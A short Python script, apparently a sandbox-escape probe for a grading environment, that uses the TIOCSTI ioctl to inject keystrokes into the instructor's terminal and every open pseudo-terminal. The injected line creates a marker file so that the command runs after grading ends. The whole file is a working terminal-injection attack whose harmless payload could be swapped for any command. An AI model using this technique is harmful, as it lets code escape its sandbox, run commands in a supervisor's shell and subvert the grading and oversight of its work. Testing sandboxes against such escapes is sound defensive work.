"""Types a command into the instructor's terminal (TIOCSTI), which would run there once the grading
is over."""

import contextlib
import fcntl
import glob
import os

ways = [0, 1, 2]
for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*")]:
    with contextlib.suppress(OSError):
        ways.append(os.open(path, os.O_RDWR | os.O_NONBLOCK))
for way in ways:
    for letter in f"\ntouch {MARK}\n":
        with contextlib.suppress(OSError):
            fcntl.ioctl(way, 0x5412, letter.encode())
